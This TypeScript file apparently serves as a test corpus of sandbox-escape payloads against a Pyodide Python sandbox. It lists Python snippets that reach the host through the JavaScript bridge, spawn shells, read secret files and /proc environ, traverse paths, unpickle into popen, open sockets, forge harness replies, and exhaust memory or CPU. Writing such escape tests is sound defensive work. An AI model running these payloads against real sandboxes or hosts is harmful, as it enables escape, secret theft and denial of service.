/**
 * Ways out of the sandbox, as a hostile author would write them. `SECRET` and `TARGET` are paths on the host (a file with
 * the secret, a file that must not come to be), `PORT` is a listening port of the host, `PARENT` the parent's process id.
 * The code runs with the policy's eyes shut, so what stops it are the walls.
 */
export interface Attack {
  readonly name: string
  readonly code: string
}

function attacks(group: string, codes: Readonly<Record<string, string>>): Attack[] {
  return Object.entries(codes).map(([name, code]) => ({ name: `${group}: ${name}`, code }))
}

/** Gives `proxy`, any object of JavaScript that Python still holds, and `bridge`, the module behind it. */
const BRIDGE = `
import gc
everything = gc.get_objects()
bridge = next((m for m in everything if type(m).__name__ == 'module' and getattr(m, '__name__', '') == '_pyodide_core'), None)
proxies = [o for o in everything if type(o).__name__ in ('JsProxy', 'JsDoubleProxy', 'JsCallable', 'JsOnceCallable')]
print(len(proxies), proxies[:3])
`

const FUNCTION = (name: string): string => `
import gc
f = next(f for f in gc.get_objects() if type(f).__name__ == 'function' and f.__name__ == '${name}')
`

/** Attacks that leave the interpreter alive; several run in one process. */
export const ATTACKS: readonly Attack[] = [
  ...attacks('bridge', {
    'import js': `import js; print(js.process.env)`,
    'from js': `from js import globalThis; print(globalThis)`,
    'js after forgetting': `import sys; sys.modules.pop('js', None); import js; print(js.eval('1'))`,
    pyodide_js: `import sys; sys.modules.pop('pyodide_js', None); import pyodide_js; print(pyodide_js.FS)`,
    run_js: `import sys; [sys.modules.pop(n) for n in list(sys.modules) if 'yodide' in n]
from pyodide.code import run_js; print(run_js("process.env.SECRET"))`,
    'run_js from memory': `${FUNCTION('run_js')}
print(f("require('fs').readFileSync('SECRET','utf8')"))`,
    'core rebuilt': `import _imp, importlib.machinery
m = _imp.create_builtin(importlib.machinery.ModuleSpec('_pyodide_core', None)); _imp.exec_builtin(m); print(dir(m))`,
    'core in memory': `${BRIDGE}
print(bridge.create_proxy(lambda: 1).constructor.constructor('return process.env')())`,
    'proxy constructor': `${BRIDGE}
print(proxies[0].constructor.constructor('return globalThis')())`,
    'proxy of a dict': `${BRIDGE}
p = bridge.to_js({'a': 1}); print(type(p)); print(p.constructor.constructor('return process')())`,
    'proxy of a function': `${BRIDGE}
p = bridge.create_once_callable(lambda *a: 1); print(p.constructor('return process')())`,
    'promise species': `${BRIDGE}
p = bridge.to_js([1]); print(p.constructor.constructor.constructor('return import("fs")')())`,
    'async function constructor': `${BRIDGE}
p = bridge.to_js([1]); print(p.at.constructor("return fetch('http://127.0.0.1:PORT')")())`,
    finder: `import gc
for o in gc.get_objects():
    if type(o).__name__ == 'JsFinder': print(o.jsproxies, o.jsproxies['js'].process)`,
    'new finder': `import gc, sys
cls = next(o for o in gc.get_objects() if isinstance(o, type) and o.__name__ == 'JsFinder')
sys.meta_path.insert(0, cls()); sys.modules.pop('js', None); import js; print(js)`,
    'module state': `import gc
for m in gc.get_objects():
    if type(m).__name__ == 'module' and getattr(m, '__name__', '') == 'pyodide._state': print(vars(m))`,
    'package loader': `${FUNCTION('get_dynlibs')}
print(f.__globals__.keys()); print(f.__globals__['IN_PYODIDE'])`,
    'loader tags': `import gc
for f in gc.get_objects():
    if type(f).__name__ == 'function' and 'yodide' in str(f.__module__):
        for k, v in f.__globals__.items():
            if type(v).__name__ in ('JsProxy', 'JsDoubleProxy'): print(k, v.constructor.constructor('return process')())`,
    webloop: `${FUNCTION('call_later')}
print(f.__globals__.get('setTimeout'), f.__globals__['setTimeout'].constructor('return process')())`,
    'node file system': `${BRIDGE}
for p in proxies:
    try: p.FS.mount(p.FS.filesystems.NODEFS, {'root': '/'}, '/mnt'); print(open('/mnt' + 'SECRET').read())
    except Exception as e: print(type(e))`,
    'unlocked import': `import importlib; importlib.invalidate_caches(); print(importlib.import_module('js').process)`,
    'import hook': `import _frozen_importlib as f; print(f._gcd_import('js').process.env)`,
    micropip: `import micropip; micropip.install('requests')`,
  }),
  ...attacks('process', {
    fork: `import os; print(os.fork())`,
    exec: `import os; os.execv('/bin/sh', ['sh', '-c', 'cat SECRET'])`,
    execve: `import os; os.execve('/bin/sh', ['sh', '-c', 'touch TARGET'], {})`,
    posix_spawn: `import os; print(os.posix_spawn('/bin/sh', ['sh', '-c', 'touch TARGET'], {}))`,
    spawnv: `import os; print(os.spawnv(os.P_WAIT, '/bin/sh', ['sh', '-c', 'touch TARGET']))`,
    subprocess: `import subprocess; print(subprocess.run(['cat', 'SECRET'], capture_output=True).stdout)`,
    'subprocess from the archive': `import sys; sys.modules.pop('subprocess'); sys.modules.pop('_posixsubprocess', None)
import subprocess; print(subprocess.check_output('cat SECRET', shell=True))`,
    _posixsubprocess: `import _posixsubprocess; print(_posixsubprocess.fork_exec)`,
    multiprocessing: `import sys; [sys.modules.pop(n) for n in list(sys.modules) if 'multiprocessing' in n]
import multiprocessing; multiprocessing.Process(target=print).start()`,
    threads: `import threading; threading.Thread(target=print).start()`,
    _thread: `import _thread; print(_thread.start_new_thread(print, ()))`,
    'process pool': `from concurrent.futures import ProcessPoolExecutor; print(ProcessPoolExecutor().submit(len, 'a').result())`,
    'thread pool': `from concurrent.futures import ThreadPoolExecutor; print(ThreadPoolExecutor().submit(len, 'a').result())`,
    'kill the parent': `import os; os.kill(PARENT, 9)`,
    'kill the group': `import os; os.killpg(os.getpgid(0), 9)`,
    alarm: `import signal; signal.alarm(1)`,
    pty: `import pty; pty.spawn('/bin/sh')`,
    setuid: `import os; os.setuid(0); print(os.getuid())`,
    nice: `import os; print(os.nice(-20))`,
    ptrace: `import ctypes; print(ctypes.CDLL(None).ptrace)`,
    webbrowser: `import webbrowser; webbrowser.open('http://127.0.0.1:PORT')`,
    'asyncio subprocess': `import asyncio; print(asyncio.run(asyncio.create_subprocess_shell('cat SECRET')))`,
    'os.popen': `import os; print(os.popen('cat SECRET').read())`,
    'startup file': `open('/home/pyodide/sitecustomize.py', 'w').write('import os')`,
  }),
  ...attacks('files', {
    'plain open': `print(open('SECRET').read())`,
    'bytes path': `print(open(b'SECRET', 'rb').read())`,
    'os.open': `import os; print(os.read(os.open('SECRET', os.O_RDONLY), 100))`,
    io: `import io; print(io.open_code('SECRET').read())`,
    FileIO: `import _io; print(_io.FileIO('SECRET').readall())`,
    pathlib: `import pathlib; print(pathlib.Path('SECRET').read_text())`,
    linecache: `import linecache; print(linecache.getlines('SECRET'))`,
    fileinput: `import fileinput; print(list(fileinput.input('SECRET')))`,
    tokenize: `import tokenize; print(tokenize.open('SECRET').read())`,
    runpy: `import runpy; runpy.run_path('SECRET')`,
    'import path': `import sys; sys.path.insert(0, '/'); print(__import__('etc'))`,
    zipimport: `import zipimport; print(zipimport.zipimporter('SECRET'))`,
    shutil: `import shutil; shutil.copy('SECRET', 'TARGET')`,
    hardlink: `import os; os.link('SECRET', '/tmp/link2'); print(open('/tmp/link2').read())`,
    'proc environ': `print(open('/proc/self/environ').read())`,
    'proc mem': `print(open('/proc/self/mem', 'rb').read(10))`,
    'proc fd': `import os; print([open('/proc/self/fd/%d' % i).read() for i in range(10)])`,
    'parent environ': `print(open('/proc/PARENT/environ').read())`,
    'dev fd': `print(open('/dev/fd/3', 'w').write('forged'))`,
    'all descriptors, write': `import os
for fd in range(3, 64):
    try: os.write(fd, b'{"nonce":"x"}\\n'); print('wrote', fd)
    except OSError: pass`,
    'all descriptors, read': `import os
for fd in range(3, 64):
    try: print(fd, os.read(fd, 1000))
    except OSError: pass`,
    'write file': `open('TARGET', 'w').write('was here')`,
    makedirs: `import os; os.makedirs('TARGET')`,
    mknod: `import os; os.mknod('TARGET')`,
    mkfifo: `import os; os.mkfifo('TARGET')`,
    chroot: `import os; os.chroot('/'); print(open('SECRET').read())`,
    'mount by ctypes': `import ctypes; ctypes.CDLL(None).mount(b'/', b'/mnt', b'bind', 4096, 0); print(open('/mnt' + 'SECRET').read())`,
    'list the root': `import os; print(os.listdir('/'), os.listdir('/root'), os.listdir('/etc'))`,
    walk: `import os
for d, _, fs in os.walk('/'):
    for f in fs:
        if f == 'SECRET'.rsplit('/', 1)[1]: print(open(os.path.join(d, f)).read())`,
    sqlite: `import sqlite3; print(sqlite3.connect('SECRET').execute('select 1').fetchall())`,
    dbm: `import dbm; print(dbm.open('TARGET', 'c'))`,
    tempfile: `import tempfile; print(tempfile.NamedTemporaryFile(dir='/', delete=False).name)`,
    mmap: `import mmap; print(mmap.mmap(-1, 4096)[:10])`,
    'inherited descriptors': `import os
for fd in range(3, 64):
    try: print(fd, os.fstat(fd), os.read(fd, 100))
    except OSError: pass`,
    'host descriptors by path': `import os
for fd in range(64):
    for path in ('/proc/self/fd/%d', '/dev/fd/%d'):
        try: print(open(path % fd, 'rb').read(100))
        except OSError: pass`,
    'host file system': `import os; print(os.listdir('/proc'), os.statvfs('/'), open('/proc/self/maps').read(100))`,
    'dot dot': `print(open('../../../../../..' + 'SECRET').read())`,
  }),
  ...attacks('environment', {
    environ: `import os; print(dict(os.environ)); print(os.environ['TUTTI_CANARY'])`,
    environb: `import os; print(os.environb)`,
    'posix environ': `import posix; print(posix.environ); print(posix._create_environ())`,
    getenv: `import os; print(os.getenv('TUTTI_CANARY'))`,
    'command line': `import sys; print(sys.argv, sys.orig_argv)`,
    expandvars: `import os; print(os.path.expandvars('$TUTTI_CANARY'))`,
    'who am I': `import os, pwd; print(pwd.getpwuid(0))`,
    sysconfig: `import sysconfig; print(sysconfig.get_config_vars())`,
    host: `import platform; print(platform.uname(), platform.node())`,
  }),
  ...attacks('network', {
    socket: `import sys; sys.modules.pop('socket'); sys.modules.pop('_socket')
import socket; socket.create_connection(('127.0.0.1', PORT), 1).send(b'hello')`,
    _socket: `import _imp, importlib.machinery
m = _imp.create_builtin(importlib.machinery.ModuleSpec('_socket', None)); _imp.exec_builtin(m)
s = m.socket(); s.connect(('127.0.0.1', PORT)); s.send(b'hello')`,
    urllib: `import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:PORT').read())`,
    'http client': `import http.client; c = http.client.HTTPConnection('127.0.0.1', PORT); c.request('GET', '/'); print(c.getresponse())`,
    pyfetch: `import gc
f = next(f for f in gc.get_objects() if getattr(f, '__name__', '') == 'pyfetch'); print(f('http://127.0.0.1:PORT'))`,
    'asyncio connection': `import asyncio; asyncio.run(asyncio.open_connection('127.0.0.1', PORT))`,
    'name lookup': `import _imp, importlib.machinery
m = _imp.create_builtin(importlib.machinery.ModuleSpec('_socket', None)); _imp.exec_builtin(m); print(m.getaddrinfo('example.com', 80))`,
    listen: `import _imp, importlib.machinery
m = _imp.create_builtin(importlib.machinery.ModuleSpec('_socket', None)); _imp.exec_builtin(m)
s = m.socket(); s.bind(('127.0.0.1', 0)); s.listen(); print(s.getsockname())`,
    smtp: `import smtplib; smtplib.SMTP('127.0.0.1', PORT)`,
    ftp: `import ftplib; ftplib.FTP('127.0.0.1')`,
    xmlrpc: `import xmlrpc.client; print(xmlrpc.client.ServerProxy('http://127.0.0.1:PORT').x())`,
    ssl: `import sys; sys.modules.pop('ssl'); import ssl; print(ssl.get_server_certificate(('127.0.0.1', PORT)))`,
  }),
  ...attacks('natives', {
    'ctypes rebuilt': `import _imp, importlib.machinery
m = _imp.create_builtin(importlib.machinery.ModuleSpec('_ctypes', None)); _imp.exec_builtin(m)
h = m.dlopen('SECRET', 0); print(h)`,
    'ctypes from the archive': `import sys; sys.modules.pop('ctypes'); sys.modules.pop('_ctypes'); import ctypes
print(ctypes.pythonapi.Py_GetVersion)`,
    'shared library': `import _imp, importlib.machinery
print(_imp.create_dynamic(importlib.machinery.ModuleSpec('x', None, origin='/lib/x86_64-linux-gnu/libc.so.6')))`,
    'pickle system': `import pickle; print(pickle.loads(b"cposix\\npopen\\n(S'cat SECRET'\\ntR."))`,
    'pickle open': `import pickle; print(pickle.loads(b"cio\\nopen\\n(S'SECRET'\\ntR.").read())`,
    marshal: `import marshal, types; types.FunctionType(marshal.loads(marshal.dumps(compile("open('SECRET').read()", 'x', 'eval'))), {})()`,
    'fatal error': `import gc
b = next(m for m in gc.get_objects() if type(m).__name__ == 'module' and getattr(m, '__name__', '') == '_pyodide_core'); b.trigger_fatal_error()`,
    'debugger of the engine': `import posix; posix._emscripten_debugger()`,
    'log of the engine': `import posix; posix._emscripten_log('forged')`,
    subclasses: `for c in ().__class__.__base__.__subclasses__():
    if c.__name__ in ('Popen', 'FileIO', '_wrap_close'): print(c, c('SECRET').readall())`,
    frames: `import sys
f = sys._getframe()
while f: print(list(f.f_globals)[:5], f.f_locals.keys()); f = f.f_back`,
    'code flags': `f = lambda: 0
f.__code__ = f.__code__.replace(co_names=('open',)); print(f())`,
    audit: `import sys; sys.addaudithook(lambda *a: print(a)); open('SECRET')`,
  }),
  ...attacks('forgery', {
    'json patched': `import json; json.dumps = lambda *a, **k: '{"status":"ok"}'`,
    'reply printed': `print('{"nonce":"0","report":"{}","stdout":"","stderr":"","truncated":false}')`,
    'hostile repr': `class X:
    def __repr__(self): raise KeyboardInterrupt
leak = X()`,
    'exit zero': `raise SystemExit(0)`,
    'sys.exit': `import sys; sys.exit('bye')`,
    'stdout closed': `import sys, io; sys.stdout = io.StringIO()`,
  }),
]

/** Attacks on memory: Python says so, or the process ends. */
export const MEMORY_ATTACKS: readonly Attack[] = attacks('memory', {
  'memory by doubling': `x = b'a' * 1000000
while True: x += x`,
  'memory by list': `x = []
while True: x.append(bytearray(10_000_000))`,
  'one big block': `x = bytearray(10 ** 9)`,
  'nested containers': `x = []
for _ in range(10 ** 9): x = [x, x]`,
  'very deep recursion': `import sys
sys.setrecursionlimit(10 ** 9)
def f(): return f()
f()`,
  'deep data': `x = []
for _ in range(100_000): x = [x]
x`,
  'wide data': `x = list(range(5_000_000))
x`,
  'long text': `x = 'x' * 100_000_000
x`,
})

/** Attacks that end or block the process; each runs in one of its own, and is stopped. */
export const FATAL_ATTACKS: readonly Attack[] = [
  ...attacks('forgery', {
    'harness patched': `import __main__; __main__._json_dumps = lambda *a, **k: '{"status":"ok","value":"forged"}'`,
  }),
  ...attacks('files', {
    symlink: `import os; os.symlink('SECRET', '/tmp/link'); print(open('/tmp/link').read())`,
  }),
  ...attacks('process', {
    signal: `import signal; signal.raise_signal(9)`,
    'os.system': `import os; os.system('cat SECRET; touch TARGET')`,
  }),
  ...attacks('natives', {
    abort: `import os; os.abort()`,
    'quick exit': `import os; os._exit(0)`,
  }),
  ...attacks('resources', {
    'endless loop': `while True: pass`,
    'endless generator': `sum(1 for _ in iter(int, 1))`,
    sleep: `import time; time.sleep(3600)`,
    'endless coroutine': `import asyncio
async def f():
    while True: await asyncio.sleep(0)
asyncio.run(f())`,
    'catastrophic pattern': `import re; re.match('(a+)+$', 'a' * 40 + 'b')`,
    'huge power': `x = 9 ** 9 ** 9`,
    'output flood': `while True: print('x' * 100000)`,
    'loop that catches everything': `while True:
    try:
        while True: pass
    except BaseException: pass`,
  }),
]
